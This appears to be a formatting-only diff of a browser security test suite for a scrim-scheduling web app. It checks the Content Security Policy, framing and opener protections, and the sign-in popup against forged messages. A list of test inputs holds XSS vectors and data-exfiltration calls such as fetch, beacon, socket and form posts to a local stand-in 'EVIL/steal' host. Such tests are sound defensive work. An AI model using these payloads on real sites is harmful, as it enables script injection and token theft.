@@ -14,9 +14,16 @@ beforeAll(async () => {
   admin = await createUser(site, 'Root', { admin: true });
   evil = createServer((request, response) => {
     caught.push(request.url!);
-    response.writeHead(200, { 'content-type': request.url!.endsWith('.js') ? 'text/javascript' : 'text/html', 'access-control-allow-origin': '*' }).end(request.url!.endsWith('.js') ? 'window.foreign = true' : '<!doctype html><title>evil</title>');
+    response
+      .writeHead(200, {
+        'content-type': request.url!.endsWith('.js') ? 'text/javascript' : 'text/html',
+        'access-control-allow-origin': '*',
+      })
+      .end(request.url!.endsWith('.js') ? 'window.foreign = true' : '<!doctype html><title>evil</title>');
   });
-  await new Promise<void>((resolve) => { evil.listen(0, '127.0.0.1', resolve); });
+  await new Promise<void>((resolve) => {
+    evil.listen(0, '127.0.0.1', resolve);
+  });
 }, 60_000);
 afterAll(async () => {
   await site?.close();
@@ -25,18 +32,43 @@ afterAll(async () => {
 const evilUrl = () => `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
 
 /** Remembers what the policy of a page refused. */
-async function watched(visitor: TestBrowserContext): Promise<{ page: Page; refused: () => Promise<string[]>; said: string[] }> {
+async function watched(
+  visitor: TestBrowserContext,
+): Promise<{ page: Page; refused: () => Promise<string[]>; said: string[] }> {
   const said: string[] = [];
-  await visitor.context.addInitScript({ content: `window.refused = []; addEventListener('securitypolicyviolation', (event) => refused.push([event.effectiveDirective, event.blockedURI, event.sourceFile].join(' ')));` });
-  visitor.context.on('console', (message) => { if (/Content.Security.Policy|Cross-Origin-Opener-Policy|Permissions.Policy/i.test(message.text())) said.push(`${message.page()?.url()}: ${message.text()}`); });
+  await visitor.context.addInitScript({
+    content: `window.refused = []; addEventListener('securitypolicyviolation', (event) => refused.push([event.effectiveDirective, event.blockedURI, event.sourceFile].join(' ')));`,
+  });
+  visitor.context.on('console', (message) => {
+    if (/Content.Security.Policy|Cross-Origin-Opener-Policy|Permissions.Policy/i.test(message.text()))
+      said.push(`${message.page()?.url()}: ${message.text()}`);
+  });
   return { page: visitor.page, refused: () => visitor.page.evaluate<string[]>('window.refused'), said };
 }
 
 test('no page of ours asks for anything its own policy refuses, in dark or light', async () => {
-  const scrim = await admin.call<{ _id: string }>('POST', '/scrims', { title: 'Safe Five', region: 'NA', gameStartTime: new Date(Date.now() + 3_600_000).toISOString() });
+  const scrim = await admin.call<{ _id: string }>('POST', '/scrims', {
+    title: 'Safe Five',
+    region: 'NA',
+    gameStartTime: new Date(Date.now() + 3_600_000).toISOString(),
+  });
   const { page, refused, said } = await watched(await browserOf(site, admin));
   const asked: string[] = [];
-  const pages = [['/', ''], ['/scrims', ''], [`/scrims/${scrim._id}`, 'Safe Five'], [`/scrims/${scrim._id}/edit`, ''], ['/scrims/new', ''], ['/users/Root?region=NA&tagline=tag', 'Root'], ['/settings', ''], ['/admin/dashboard', ''], ['/admin/bans', ''], ['/guide', ''], ['/privacy-policy', ''], ['/terms-of-service', ''], ['/never/was', "doesn't exist"]] as const;
+  const pages = [
+    ['/', ''],
+    ['/scrims', ''],
+    [`/scrims/${scrim._id}`, 'Safe Five'],
+    [`/scrims/${scrim._id}/edit`, ''],
+    ['/scrims/new', ''],
+    ['/users/Root?region=NA&tagline=tag', 'Root'],
+    ['/settings', ''],
+    ['/admin/dashboard', ''],
+    ['/admin/bans', ''],
+    ['/guide', ''],
+    ['/privacy-policy', ''],
+    ['/terms-of-service', ''],
+    ['/never/was', "doesn't exist"],
+  ] as const;
   for (const theme of ['dark', 'light'] as const) {
     await page.emulateMedia({ colorScheme: theme });
     for (const [path, heading] of theme === 'dark' ? pages : pages.slice(0, 3)) {
@@ -59,7 +91,9 @@ test('nor do the sign-up, the document of the api and the board of effects', asy
   await page.goto('/api/docs');
   await page.getByText('/api/scrims', { exact: true }).first().waitFor();
   asked.push(...(await refused()));
-  await page.request.post('/api/admin/board', { headers: { authorization: admin.token, 'x-api-key': 'a key, to be written into the page' } });
+  await page.request.post('/api/admin/board', {
+    headers: { authorization: admin.token, 'x-api-key': 'a key, to be written into the page' },
+  });
   await page.goto('/admin/queues/');
   await page.getByText('Muster effects').first().waitFor();
   await page.waitForLoadState('networkidle');
@@ -69,31 +103,80 @@ test('nor do the sign-up, the document of the api and the board of effects', asy
 
 describe('a script that got into a page', () => {
   const TRIES: readonly [what: string, directive: string, script: string][] = [
-    ['in the page itself', 'script-src-elem', "document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = true' }))"],
-    ['on an element', 'script-src-attr', "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = true\">')"],
-    ['in an address', 'script-src-elem', "document.body.append(Object.assign(document.createElement('a'), { id: 'trap', href: 'javascript:window.ran = true' })); trap.click()"],
-    ['from a blob', 'script-src-elem', "document.body.append(Object.assign(document.createElement('script'), { src: URL.createObjectURL(new Blob(['window.ran = true'])) }))"],
-    ['from a data address', 'script-src-elem', "document.body.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.ran = true' }))"],
-    ['from elsewhere', 'script-src-elem', "document.body.append(Object.assign(document.createElement('script'), { src: 'EVIL/x.js' }))"],
-    ['as a module from elsewhere', 'script-src-elem', "document.body.append(Object.assign(document.createElement('script'), { type: 'module', src: 'EVIL/x.js' }))"],
+    [
+      'in the page itself',
+      'script-src-elem',
+      "document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = true' }))",
+    ],
+    [
+      'on an element',
+      'script-src-attr',
+      "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = true\">')",
+    ],
+    [
+      'in an address',
+      'script-src-elem',
+      "document.body.append(Object.assign(document.createElement('a'), { id: 'trap', href: 'javascript:window.ran = true' })); trap.click()",
+    ],
+    [
+      'from a blob',
+      'script-src-elem',
+      "document.body.append(Object.assign(document.createElement('script'), { src: URL.createObjectURL(new Blob(['window.ran = true'])) }))",
+    ],
+    [
+      'from a data address',
+      'script-src-elem',
+      "document.body.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.ran = true' }))",
+    ],
+    [
+      'from elsewhere',
+      'script-src-elem',
+      "document.body.append(Object.assign(document.createElement('script'), { src: 'EVIL/x.js' }))",
+    ],
+    [
+      'as a module from elsewhere',
+      'script-src-elem',
+      "document.body.append(Object.assign(document.createElement('script'), { type: 'module', src: 'EVIL/x.js' }))",
+    ],
     ['as a worker from a blob', 'worker-src', "try { new Worker(URL.createObjectURL(new Blob(['']))) } catch {}"],
     ['calling home', 'connect-src', "fetch('EVIL/steal?token').catch(() => 0)"],
     ['calling home by a beacon', 'connect-src', "navigator.sendBeacon('EVIL/steal?beacon', 'x')"],
     ['calling home by a socket', 'connect-src', "try { new WebSocket('EVIL/steal'.replace('http', 'ws')) } catch {}"],
     ['calling home by a picture', 'img-src', "new Image().src = 'EVIL/steal?picture'"],
-    ['calling home by a form', 'form-action', "const form = Object.assign(document.createElement('form'), { action: 'EVIL/steal?form', method: 'post' }); document.body.append(form); form.submit()"],
-    ['moving our addresses', 'base-uri', "document.head.append(Object.assign(document.createElement('base'), { href: 'EVIL/' }))"],
-    ['showing another page in ours', 'frame-src', "document.body.append(Object.assign(document.createElement('iframe'), { src: 'EVIL/frame' }))"],
-    ['showing an object', 'object-src', "document.body.append(Object.assign(document.createElement('object'), { data: 'EVIL/object' }))"],
+    [
+      'calling home by a form',
+      'form-action',
+      "const form = Object.assign(document.createElement('form'), { action: 'EVIL/steal?form', method: 'post' }); document.body.append(form); form.submit()",
+    ],
+    [
+      'moving our addresses',
+      'base-uri',
+      "document.head.append(Object.assign(document.createElement('base'), { href: 'EVIL/' }))",
+    ],
+    [
+      'showing another page in ours',
+      'frame-src',
+      "document.body.append(Object.assign(document.createElement('iframe'), { src: 'EVIL/frame' }))",
+    ],
+    [
+      'showing an object',
+      'object-src',
+      "document.body.append(Object.assign(document.createElement('object'), { data: 'EVIL/object' }))",
+    ],
   ];
   let page: Page;
-  beforeAll(async () => { ({ page } = await watched(await site.newContext())); });
+  beforeAll(async () => {
+    ({ page } = await watched(await site.newContext()));
+  });
   test.each(TRIES)('%s does nothing (the control of the tests above)', async (_, directive, script) => {
     await page.goto('/guide');
     const before = caught.length;
     await page.evaluate(script.replaceAll('EVIL', evilUrl()));
     while (!(await page.evaluate(`window.refused.some((one) => one.startsWith('${directive}'))`)));
-    expect([await page.evaluate('[window.ran, window.foreign].some(Boolean)'), caught.slice(before)]).toEqual([false, []]);
+    expect([await page.evaluate('[window.ran, window.foreign].some(Boolean)'), caught.slice(before)]).toEqual([
+      false,
+      [],
+    ]);
   });
 });
 
@@ -105,7 +188,10 @@ test('no other page can show ours in a frame, nor keep a hand on it', async () =
   await page.waitForFunction("document.querySelector('iframe').contentDocument === null");
   expect(await frame()!.content()).not.toContain('id="root"');
 
-  const [opened] = await Promise.all([context.waitForEvent('page'), page.evaluate(`void (window.ours = window.open(${JSON.stringify(`${site.url}/guide`)}))`)]);
+  const [opened] = await Promise.all([
+    context.waitForEvent('page'),
+    page.evaluate(`void (window.ours = window.open(${JSON.stringify(`${site.url}/guide`)}))`),
+  ]);
   await opened.getByRole('heading', { name: 'User Guide' }).waitFor();
   await page.waitForFunction('window.ours.closed');
   expect(await opened.evaluate('window.opener')).toBeNull();
@@ -113,7 +199,8 @@ test('no other page can show ours in a frame, nor keep a hand on it', async () =
 
 describe('the popup of the sign-in', () => {
   const logIn = async (page: Page) => {
-    const idle = page.getByRole('banner').locator('button:not(.ant-btn-loading)', { hasText: 'Log In' }); // it learns within half a second that a popup was closed
+    // It learns within half a second that a popup was closed
+    const idle = page.getByRole('banner').locator('button:not(.ant-btn-loading)', { hasText: 'Log In' });
     const [popup] = await Promise.all([page.waitForEvent('popup'), idle.click()]);
     await popup.getByLabel('E-mail address').waitFor();
     return popup;
@@ -122,7 +209,9 @@ describe('the popup of the sign-in', () => {
   const waiting = async () => {
     const visitor = await site.newContext();
     const asked: unknown[] = [];
-    visitor.page.on('request', (request) => { if (request.url().endsWith('/api/auth/login')) asked.push(request.postDataJSON()); });
+    visitor.page.on('request', (request) => {
+      if (request.url().endsWith('/api/auth/login')) asked.push(request.postDataJSON());
+    });
     const start = visitor.context.waitForEvent('request', (request) => request.url().includes('/api/auth/oidc/start?'));
     await visitor.page.goto('/guide');
     const popup = await logIn(visitor.page);
@@ -135,7 +224,12 @@ describe('the popup of the sign-in', () => {
     await closed;
   };
   const signedIn = (page: Page) => page.getByRole('button', { name: 'More options', exact: true }).waitFor();
-  const lie = (state?: string) => ({ type: 'oidc', uid: 'sandbox|evil', email: 'evil@players.test', ...(state && { state }) });
+  const lie = (state?: string) => ({
+    type: 'oidc',
+    uid: 'sandbox|evil',
+    email: 'evil@players.test',
+    ...(state && { state }),
+  });
 
   test('keeps its opener under our policies, and signs in', async () => {
     await createUser(site, 'Opener');
@@ -152,17 +246,26 @@ describe('the popup of the sign-in', () => {
     const { page, context, asked, popup, word: state } = await waiting();
     expect(state).toMatch(/^[0-9a-f]{32}$/);
     await popup.goto(evilUrl());
-    for (const word of [state, '', 'x']) await popup.evaluate(`for (const target of ['*', ${JSON.stringify(site.url)}]) window.opener.postMessage(${JSON.stringify(lie(word))}, target)`);
+    for (const word of [state, '', 'x'])
+      await popup.evaluate(
+        `for (const target of ['*', ${JSON.stringify(site.url)}]) window.opener.postMessage(${JSON.stringify(lie(word))}, target)`,
+      );
     await popup.evaluate(`new BroadcastChannel('muster-oidc').postMessage(${JSON.stringify(lie(state))})`);
     // Another tab of ours, without the word this popup was given.
     const tab = await context.newPage();
     await tab.goto('/guide');
-    await tab.evaluate(`for (const word of [{}, { state: 'x' }]) new BroadcastChannel('muster-oidc').postMessage({ ...${JSON.stringify(lie())}, ...word })`);
+    await tab.evaluate(
+      `for (const word of [{}, { state: 'x' }]) new BroadcastChannel('muster-oidc').postMessage({ ...${JSON.stringify(lie())}, ...word })`,
+    );
     await tab.close();
     await page.bringToFront();
-    await page.evaluate(`for (const word of [{}, { state: 'x' }, { state: null }]) window.postMessage({ ...${JSON.stringify(lie())}, ...word }, location.origin)`);
+    await page.evaluate(
+      `for (const word of [{}, { state: 'x' }, { state: null }]) window.postMessage({ ...${JSON.stringify(lie())}, ...word }, location.origin)`,
+    );
     // Messages are delivered in their order: one of our own that comes after them says that they have been heard.
-    await page.evaluate("new Promise((heard) => { addEventListener('message', ({ data }) => data === 'last' && heard()); window.postMessage('last', location.origin); })");
+    await page.evaluate(
+      "new Promise((heard) => { addEventListener('message', ({ data }) => data === 'last' && heard()); window.postMessage('last', location.origin); })",
+    );
     expect(asked).toEqual([]);
     await popup.close();
     await finish(await logIn(page), 'victim@players.test');
